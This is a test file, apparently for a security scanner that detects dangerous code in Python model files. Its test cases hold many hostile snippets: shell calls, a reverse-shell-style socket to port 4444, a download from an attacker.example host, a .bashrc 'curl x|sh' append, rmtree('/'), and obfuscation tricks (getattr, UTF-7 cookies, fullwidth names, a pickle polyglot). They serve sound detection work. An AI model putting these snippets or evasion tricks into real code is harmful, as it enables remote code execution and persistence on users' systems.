import { describe, expect, it } from 'vitest';
import { scanBytes } from '../scan-file.ts';
import { defaultLimits } from '../types.ts';
import { benignConfiguration, benignModeling, evilModeling } from '../test-support/hf.ts';
import { analysePython } from './python-source.ts';
import { tokenize } from './python-tokens.ts';

/** [case, source, worst level, a name that must be reported]. */
const cases: [string, string, 'dangerous' | 'suspicious' | 'clean', string?][] = [
  // Plain calls and aliases.
  ['os.system', 'import os\nos.system("id")', 'dangerous', 'os.system'],
  ['posix.system is os.system', 'import posix\nposix.system("id")', 'dangerous', 'os.system'],
  ['module alias', 'import subprocess as sp\nsp.run(["id"])', 'dangerous', 'subprocess.run'],
  ['from-import alias', 'from os import system as s\ns("id")', 'dangerous', 'os.system'],
  ['parenthesised from-import', 'from subprocess import (\n    PIPE,\n    Popen as P,\n)\nP(["id"], stdout=PIPE)', 'dangerous', 'subprocess.Popen'],
  ['star import', 'from subprocess import *\ncheck_output(["id"])', 'dangerous', 'subprocess.check_output'],
  ['function bound to a name', 'import os\nrun = os.popen\nrun("id")', 'dangerous', 'os.popen'],
  ['import inside a function', 'def f():\n    import pty\n    pty.spawn("/bin/sh")', 'dangerous', 'pty.spawn'],
  ['exec of base64', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))', 'dangerous', 'builtins.exec'],
  ['eval', 'eval(input_text)', 'dangerous', 'builtins.eval'],
  ['compile + exec', 'code = compile(src, "<x>", "exec")', 'dangerous', 'builtins.compile'],
  ['marshal bytecode', 'import marshal\nf = marshal.loads(blob)', 'dangerous', 'marshal.loads'],
  ['socket', 'import socket\ns = socket.socket()\ns.connect(("10.0.0.1", 4444))', 'dangerous', 'socket.socket'],
  ['requests download', 'import requests\nrequests.get("http://attacker.example/x.sh").text', 'dangerous', 'requests.get'],
  ['urlretrieve', 'from urllib.request import urlretrieve\nurlretrieve("http://x/y", "/tmp/y")', 'dangerous', 'urllib.request.urlretrieve'],
  ['torch.hub.load runs hubconf.py', 'import torch\nm = torch.hub.load("attacker/repo", "model")', 'dangerous', 'torch.hub.load'],
  // Obfuscation.
  ['getattr of __import__ with concatenation', "getattr(__import__('o'+'s'),'system')('id')", 'dangerous', 'os.system'],
  ['reversed string', "import os\ngetattr(os, 'metsys'[::-1])('id')", 'dangerous', 'os.system'],
  ['chr() and join', "import os\ngetattr(os, ''.join([chr(115), 'ystem']))('id')", 'dangerous', 'os.system'],
  ['hex escapes', "import os\ngetattr(os, '\\x73ystem')('id')", 'dangerous', 'os.system'],
  ['computed attribute of os', 'import os\nname = cfg["x"]\ngetattr(os, name)("id")', 'dangerous', 'getattr(os, …)'],
  ['importlib with folded name', "import importlib\nm = importlib.import_module('sub' + 'process')\nm.Popen(['id'])", 'dangerous', 'subprocess.Popen'],
  ['importlib with computed name', 'import importlib\nm = importlib.import_module(cfg.module)\nm.system("id")', 'dangerous', '?.system'],
  ['sys.modules', "import sys, os\nsys.modules['os'].system('id')", 'dangerous', 'os.system'],
  ['vars(builtins)', "import builtins\nvars(builtins)['ex' + 'ec']('1')", 'dangerous', 'builtins.exec'],
  ['__builtins__', "__builtins__['eval']('1')", 'dangerous', '__builtins__'],
  ['globals()[__builtins__]', "globals()['__builtins__']", 'dangerous', '__builtins__'],
  ['subclasses gadget', '().__class__.__bases__[0].__subclasses__()', 'dangerous', '__subclasses__'],
  ['f-string field runs code', 'print(f"{__import__(\'os\').popen(\'id\').read()}")', 'dangerous', 'os.popen'],
  ['fullwidth exec (NFKC)', 'ｅｘｅｃ("print(1)")', 'dangerous', 'builtins.exec'],
  ['line continuation', 'import os\nos.\\\n  system("id")', 'dangerous', 'os.system'],
  ['bound elsewhere, still called', 'def f(eval=False):\n    return eval\neval("1")', 'dangerous', 'builtins.eval'],
  ['__getattribute__', "import os\nos.__getattribute__('system')('id')", 'dangerous', 'os.system'],
  ['object.__getattribute__', "import os\nobject.__getattribute__(os, 'sys' + 'tem')('id')", 'dangerous', 'os.system'],
  ['operator.attrgetter', "import operator, os\noperator.attrgetter('system')(os)('id')", 'dangerous', "operator.attrgetter('system')"],
  ['os.__dict__', "import os\nos.__dict__['popen']('id')", 'dangerous', 'os.popen'],
  ['pickle of an embedded blob', 'import pickle, base64\npickle.loads(base64.b64decode("gASV"))', 'dangerous', 'pickle.loads'],
  ['UTF-7 coding cookie', '# -*- coding: utf-7 -*-\nimport os\n# harmless +AAo-os.system("id")\n', 'dangerous', 'os.system'],
  // Modules passed around as values, reached through other modules, files written and downloads.
  ['module returned, then called into', 'def f():\n    import os\n    return os\nf().system("id")', 'dangerous', '?.system'],
  ['module in a list', 'import os\nm = [os][0]\nm.system("id")', 'dangerous', '?.system'],
  ['module in a dict', 'import os\nd = {"x": os}\nd["x"].system("id")', 'dangerous', '?.system'],
  ['module unpacked from a tuple', 'import os\na, b = os, 1\na.system("id")', 'dangerous', '?.system'],
  ['os through os.path', 'import os.path\nos.path.os.system("id")', 'dangerous', 'os.system'],
  ['os through another module', 'import torch\ngetattr(torch, "os").popen("id")', 'dangerous', 'os.popen'],
  ['globals() bound to a name', 'g = globals()\ng["__builtins__"].__dict__["exec"]("1")', 'dangerous', 'builtins.exec'],
  ['globals().get', 'globals().get("__builtins__")', 'dangerous', '__builtins__'],
  ['download, then import it', 'import importlib.util\nfrom huggingface_hub import hf_hub_download\np = hf_hub_download("x/y", "m.py")\ns = importlib.util.spec_from_file_location("m", p)', 'dangerous', 'huggingface_hub.hf_hub_download + importlib.util.spec_from_file_location'],
  ['module returned', 'import os\ndef f():\n    return os', 'suspicious', 'os'],
  ['module passed as an argument', 'import sys\nregister(sys)', 'suspicious', 'sys'],
  ['module subscripted', 'import os\nos[0]', 'suspicious', 'os'],
  ['vars(module) bound to a name', 'import os\nd = vars(os)', 'suspicious', 'os'],
  ['shutil.rmtree', 'import shutil\nshutil.rmtree("/")', 'suspicious', 'shutil.rmtree'],
  ['open for append', 'open("/home/u/.bashrc", "a").write("curl x|sh")', 'suspicious', 'builtins.open'],
  ['open with mode=', 'with open(p, mode="wb") as f:\n    f.write(b)', 'suspicious', 'builtins.open'],
  ['open with a computed mode', 'open(p, m)', 'suspicious', 'builtins.open'],
  ['Path.write_text', 'from pathlib import Path\nPath("/home/u/.bashrc").write_text("curl x|sh")', 'suspicious', 'pathlib.Path.write_text'],
  ['write_text on a value not traced', 'p = base / "x"\np.write_text("y")', 'suspicious', '?.write_text'],
  ['os.remove', 'import os\nos.remove(p)', 'suspicious', 'os.remove'],
  ['hf_hub_download', 'from huggingface_hub import hf_hub_download\np = hf_hub_download("evil/x", "a.bin")', 'suspicious', 'huggingface_hub.hf_hub_download'],
  ['snapshot_download', 'import huggingface_hub\nhuggingface_hub.snapshot_download("evil/x")', 'suspicious', 'huggingface_hub.snapshot_download'],
  ['import os, never used', 'import os\nx = 1', 'suspicious', 'os'],
  ['import shutil, never used', 'import shutil', 'suspicious', 'shutil'],
  ['star import of os', 'from os import *\np = path.join("a", "b")', 'suspicious', 'from os import *'],
  ['spec_from_file_location', 'import importlib.util\nspec = importlib.util.spec_from_file_location("m", "/tmp/m.py")', 'suspicious', 'importlib.util.spec_from_file_location'],
  // Suspicious.
  ['ctypes', 'import ctypes\nctypes.CDLL("./libops.so")', 'suspicious', 'ctypes'],
  ['pickle.loads', 'import pickle\nstate = pickle.loads(blob)', 'suspicious', 'pickle.loads'],
  ['bare subprocess import', 'import subprocess\n', 'suspicious', 'subprocess'],
  ['native extension build', 'from torch.utils.cpp_extension import load\nops = load("ops", ["ops.cpp"])', 'suspicious', 'torch.utils.cpp_extension.load'],
  ['nested trust_remote_code', 'AutoModel.from_pretrained("x/y", trust_remote_code=True)', 'suspicious', 'trust_remote_code=True'],
  ['computed import', 'import importlib\nmod = importlib.import_module(name)', 'suspicious', 'importlib.import_module'],
  // Clean: the names appear but nothing runs.
  ['comments and strings', 'x = "os.system(\'id\')"  # os.system("id")\n"""exec(x)"""\ny = r\'eval(1)\'', 'clean'],
  ['methods named like builtins', 'class A:\n    def eval(self):\n        return self.eval()\nmodel.eval()\nre.compile("x")\ntorch.compile(m)', 'clean'],
  ['parameter named eval', 'def f(x, eval=False):\n    if eval:\n        return x', 'clean'],
  ['os.path and environ', 'import os\np = os.path.join(os.environ.get("HOME", ""), "x")\nos.makedirs(p, exist_ok=True)', 'clean'],
  ['getattr on torch and sys.modules[__name__]', 'import sys, torch\nact = getattr(torch.nn.functional, name)\ncls = getattr(sys.modules[__name__], cls_name)', 'clean'],
  ['nested f-string quotes (3.12)', 'msg = f"{d["key"]} is {"ok"!r}"', 'clean'],
  ['type annotation of CodeType', 'import types\ndef f(c: types.CodeType) -> None: ...', 'clean'],
  ['ordinary coding cookie', '# -*- coding: latin-1 -*-\nx = 1\n', 'clean'],
  ['unusual coding cookie', '# coding: cp500\nx = 1\n', 'suspicious', 'coding: cp500'],
  ['module alias, then its functions', 'import os\nfs = os\np = fs.path.join("a", "b")', 'clean'],
  ['hasattr and getattr with a default on os/sys', 'import os, sys\nif hasattr(os, "sched_getaffinity"):\n    n = len(os.sched_getaffinity(0))\nfrozen = getattr(sys, "frozen", False)', 'clean'],
  ['open for reading', 'import json\nwith open(p) as f:\n    cfg = json.load(f)\nraw = open(p, "rb").read()\nt = open(p, mode="r", encoding="utf-8").read()', 'clean'],
  ['asyncio.subprocess is its own module', 'import asyncio\nx = asyncio.subprocess.PIPE', 'clean'],
  ['subprocess constants', 'import subprocess\nsubprocess.run(["nvidia-smi"], stdout=subprocess.PIPE)', 'dangerous', 'subprocess.run'],
];

describe('Python source analysis', () => {
  it.each(cases)('%s', (_name, src, level, name) => {
    const a = analysePython(src);
    const worst = a.issues.some((i) => i.level === 'dangerous') ? 'dangerous' : a.issues.length ? 'suspicious' : 'clean';
    expect(worst, JSON.stringify(a.issues, null, 1)).toBe(level);
    if (name) expect(a.issues.map((i) => i.name)).toContain(name);
  });

  it('records relative imports (what transformers copies beside the module)', () => {
    const a = analysePython('from .configuration_tiny import TinyConfig\nfrom . import utils, layers as L\nfrom ..x import y\nimport torch');
    expect(a.relativeImports.sort()).toEqual(['configuration_tiny', 'layers', 'utils', 'x']);
  });

  it('reports call arguments, the resolver chain and the call line', () => {
    const [i] = analysePython('import torch\n\nx = getattr(__import__("o" + "s"), "popen")("curl x | sh")').issues.filter((x) => x.name === 'os.popen');
    expect(i).toMatchObject({ level: 'dangerous', kind: 'call', args: '"curl x | sh"', via: ['builtins.__import__', 'getattr'] });
  });

  it('a realistic modeling file is clean; with a dropper it is dangerous', () => {
    expect(analysePython(benignModeling).issues).toEqual([]);
    expect(analysePython(benignConfiguration).issues).toEqual([]);
    expect(analysePython(evilModeling).issues.map((i) => [i.level, i.name])).toEqual([['dangerous', 'subprocess.Popen']]);
  });

  it('scans .py files by name, with byte offsets and an info finding for the source', async () => {
    const src = '# é\nimport os\nos.system("id")\n';
    const r = await scanBytes(new TextEncoder().encode(src), 'model/helper.py');
    expect(r.verdict).toBe('dangerous');
    expect(r.formats).toEqual(['python']);
    const f = r.findings.find((x) => x.rule === 'python/unsafe-code')!;
    expect(f.offset).toBe(Buffer.byteLength('# é\nimport os\n'));
    expect(f.message).toMatch(/^line 3: calls os\.system\("id"\)/);
    expect(r.findings.map((x) => x.rule)).toContain('python/source');
  });

  it('control characters do not hide a .py file; other text is not read as Python', async () => {
    const noisy = `# ${'\x01'.repeat(200)}\nimport os\nos.system("id")\n`;
    expect((await scanBytes(new TextEncoder().encode(noisy), 'noisy.py')).verdict).toBe('dangerous');
    expect((await scanBytes(new TextEncoder().encode('Run `os.system("id")` at your own risk.\n'), 'README.md')).verdict).toBe('clean');
    expect((await scanBytes(new TextEncoder().encode('#!/usr/bin/env python3\nimport os\nos.system("id")\n'), 'run')).verdict).toBe('dangerous');
  });
});

describe('Python source analysis: bounds', () => {
  it('a 600 KB attribute chain finishes, and is reported (not followed)', () => {
    const src = `import os\nx = os${'.path'.repeat(120_000)}\nx.system("id")\n`;
    // CPU time, not wall time: a quadratic walk shows as work done, whereas load only stretches the clock.
    const before = process.cpuUsage();
    const a = analysePython(src);
    const used = process.cpuUsage(before);
    expect((used.user + used.system) / 1000).toBeLessThan(10_000);
    expect(a.issues.map((i) => [i.level, i.name])).toContainEqual(['suspicious', 'os.…']);
  });

  it('stops at the deadline and says where', async () => {
    const src = 'import os\n' + 'x = os.path.join("a", "b")\n'.repeat(5000);
    expect(analysePython(src, Date.now() - 1).stoppedAt).toBeGreaterThanOrEqual(1);
    expect(analysePython(src).stoppedAt).toBeUndefined();
    const r = await scanBytes(new TextEncoder().encode(src), 'm.py', { ...defaultLimits, timeMs: -1 });
    expect(r.verdict).toBe('inconclusive');
  });

  it('a .py file that is also a protocol-0 pickle is read as Python too', async () => {
    const polyglot = 'V=1;import os;os.system("id")\ncbuiltins\nset\n(V)\ntR.real\n';
    const r = await scanBytes(new TextEncoder().encode(polyglot), 'helper.py');
    expect(r.formats).toEqual(expect.arrayContaining(['pickle', 'python']));
    expect(r.verdict).toBe('dangerous');
    expect(r.findings.find((f) => f.rule === 'python/unsafe-code')?.global).toBe('os.system');
  });
});

describe('Python tokenizer', () => {
  const values = (src: string): string[] => tokenize(src).tokens.filter((t) => t.kind !== 'newline').map((t) => `${t.kind}:${t.value}`);

  it.each([
    ['prefixes and escapes', `b'\\x6f' R'\\x' u"\\u0073" '\\157'`, ['string:o', 'string:\\x', 'string:s', 'string:o']],
    ['triple quotes with quotes inside', `"""a "b" 'c'"""+x`, ['string:a "b" \'c\'', 'op:+', 'name:x']],
    ['escaped quote in raw string', `r'\\''`, ["string:\\'"]],
    ['comment ends at newline', 'a # b\nc', ['name:a', 'name:c']],
    ['NFKC names', 'ｅｖａｌ', ['name:eval']],
    ['multi-character operators', 'a**=b//c->d', ['name:a', 'op:**=', 'name:b', 'op://', 'name:c', 'op:->', 'name:d']],
  ])('%s', (_name, src, expected) => {
    expect(values(src)).toEqual(expected);
  });

  it('hands back f-string fields, skipping {{ }} and nested strings', () => {
    const { tokens, embedded } = tokenize('f"{{x}} {a + b["k"]!r:>{w}}" + z');
    expect(embedded.map((e) => e.source)).toEqual(['a + b["k"]!r:>{w}']);
    expect(tokens.map((t) => t.kind)).toEqual(['string', 'op', 'name', 'newline']);
    expect(tokens[0]!.dynamic).toBe(true);
  });

  it('\\N{...} escapes are not constants', () => {
    expect(tokenize("'\\N{LATIN SMALL LETTER O}s'").tokens[0]!.dynamic).toBe(true);
  });
});
